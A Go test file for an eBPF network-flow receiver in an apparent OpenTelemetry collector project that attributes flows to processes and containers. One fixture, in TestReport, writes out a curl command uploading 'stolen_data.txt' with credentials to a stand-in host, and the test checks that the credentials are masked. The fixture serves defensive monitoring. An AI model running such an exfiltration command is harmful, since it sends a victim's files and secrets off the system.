package tracker_test

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/otelcol-exfil/otelcol-exfil/internal/flow"
	"github.com/otelcol-exfil/otelcol-exfil/receiver/ebpfflowreceiver/internal/event"
)

func TestReport(t *testing.T) {
	s := newScene(t)
	e := event.Event{Kind: event.KindFlow, Flow: event.Flow{
		Socket: socket(1, "203.0.113.10:443"), Reason: event.EndOfFlow, Start: 1e9, End: 3e9,
		Delta: event.Counters{Sent: 10, Received: 20, SentPackets: 1, ReceivedPackets: 2},
	}}
	e.Flow.TGID = 42
	records := s.run(t, event.Event{Kind: event.KindExec, Exec: event.Exec{
		TGID: 42, Parent: 41, Cgroup: victim, File: "/usr/bin/curl",
		Args: []string{"curl", "-u", "username:password", "-T", "stolen_data.txt", "https://h.example/"},
	}}, e)
	require.Len(t, records, 1)
	assert.Equal(t, observed{
		Record: flow.Record{
			Time: boot + 3e9, Start: boot + 1e9, End: boot + 3e9,
			Source: end("10.0.0.2:40000"), Destination: end("203.0.113.10:443"),
			Transport: "tcp", Initiator: flow.InitiatorSource,
			Bytes: 10, Packets: 1, ReverseBytes: 20, ReversePackets: 2, EndReason: flow.EndOfFlow,
			Process: flow.Process{PID: 42, ParentPID: 41, Executable: "/usr/bin/curl",
				CommandLine: "curl -u **** -T stolen_data.txt https://h.example/"},
		},
		Resource: flow.Resource{ContainerID: idOf(victim), Runtime: "docker", Container: "name-7", Image: "image",
			Host: "host", HostID: "host-id"},
	}, records[0])
}

func TestReportIsADelta(t *testing.T) {
	web := socket(1, "203.0.113.10:80")
	records := newScene(t).run(t, moved(web, 5), moved(web, 7), ended(web, 0))
	require.Len(t, records, 3)
	assert.Equal(t, []int64{5, 7, 0}, []int64{records[0].Bytes, records[1].Bytes, records[2].Bytes})
	assert.Equal(t, flow.EndActiveTimeout, records[0].EndReason)
	assert.Equal(t, flow.EndOfFlow, records[2].EndReason)
}

func TestTransport(t *testing.T) {
	for protocol, want := range map[uint8]string{
		1: "icmp", 6: "tcp", 17: "udp", 58: "ipv6-icmp", 132: "sctp", 136: "udplite", 200: "ip-200"} {
		t.Run(want, func(t *testing.T) {
			raw := socket(1, "203.0.113.10:0")
			raw.Protocol = protocol
			records := newScene(t).run(t, moved(raw, 1))
			require.Len(t, records, 1)
			assert.Equal(t, want, records[0].Transport)
		})
	}
}

// A connection older than the programs has no known initiator: its ports tell.
func TestInitiator(t *testing.T) {
	for name, c := range map[string]struct {
		told          event.Initiator
		local, remote string
		want          flow.Initiator
	}{
		"it connected":             {event.Local, "10.0.0.2:80", "203.0.113.1:40000", flow.InitiatorSource},
		"it was connected to":      {event.Remote, "10.0.0.2:40000", "203.0.113.1:80", flow.InitiatorDestination},
		"older, to a service":      {event.Unknown, "10.0.0.2:32768", "203.0.113.1:32767", flow.InitiatorSource},
		"older, a service":         {event.Unknown, "10.0.0.2:32767", "203.0.113.1:32768", flow.InitiatorDestination},
		"older, both high":         {event.Unknown, "10.0.0.2:40000", "203.0.113.1:50000", flow.InitiatorUnknown},
		"older, both low, or none": {event.Unknown, "10.0.0.2:0", "203.0.113.1:0", flow.InitiatorUnknown},
	} {
		t.Run(name, func(t *testing.T) {
			s := socket(1, c.remote)
			s.Local, s.Initiator = end(c.local), c.told
			records := newScene(t).run(t, moved(s, 1))
			require.Len(t, records, 1)
			assert.Equal(t, c.want, records[0].Initiator)
		})
	}
}

func TestLoopbackStaysInside(t *testing.T) {
	for _, remote := range []string{"127.0.0.1:80", "[::1]:80", "127.0.0.11:53"} {
		s := newScene(t)
		inside := socket(1, remote)
		records := s.run(t, says(inside, "PUT / HTTP/1.1\r\nHost: h\r\nContent-Length: 1000000\r\n\r\n"),
			moved(inside, 1), ended(inside, 1))
		assert.Empty(t, records, remote)
		assert.Zero(t, s.tracker.Tracked.Load(), "its state goes with it")
	}
}

func TestHost(t *testing.T) {
	daemon := socket(1, "203.0.113.10:80")
	daemon.Cgroup = system
	unknown := socket(2, "203.0.113.10:80")
	unknown.Cgroup = 99

	s := newScene(t)
	assert.Empty(t, s.run(t, moved(daemon, 1), says(daemon, "GET / HTTP/1.1\r\n\r\n"), moved(unknown, 1)))
	assert.Equal(t, []uint64{system, system}, s.source.Ignored(), "only what is surely the host's")

	s = newScene(t)
	s.HostProcesses = true
	records := s.run(t, moved(daemon, 1))
	require.Len(t, records, 1)
	assert.Equal(t, flow.Resource{Host: "host", HostID: "host-id"}, records[0].Resource)
	assert.Empty(t, s.source.Ignored())
}

func TestCgroups(t *testing.T) {
	s := newScene(t)
	s.run(t,
		event.Event{Kind: event.KindCgroupMade, Cgroup: event.Cgroup{ID: 50, Path: "/docker/x"}},
		event.Event{Kind: event.KindCgroupMade, Cgroup: event.Cgroup{ID: 51, Path: "/docker/y"}},
		event.Event{Kind: event.KindCgroupGone, Cgroup: event.Cgroup{ID: 51, Path: "/docker/y"}})
	assert.Equal(t, "/docker/x", s.containers.Added(50))
	assert.Empty(t, s.containers.Added(51))
	assert.Equal(t, []uint64{51}, s.source.Forgotten())
	assert.EqualValues(t, 3, s.tracker.Events.Load())
}

func TestForkedProcess(t *testing.T) {
	web := socket(1, "203.0.113.10:80")
	web.TGID = 43
	records := newScene(t).run(t,
		event.Event{Kind: event.KindExec, Exec: event.Exec{TGID: 42, Parent: 1, File: "/usr/bin/nginx", Args: []string{"nginx"}}},
		event.Event{Kind: event.KindFork, Fork: event.Fork{TGID: 43, Parent: 42}},
		moved(web, 1))
	require.Len(t, records, 1)
	assert.Equal(t, flow.Process{PID: 43, ParentPID: 42, Executable: "/usr/bin/nginx", CommandLine: "nginx"}, records[0].Process)
}
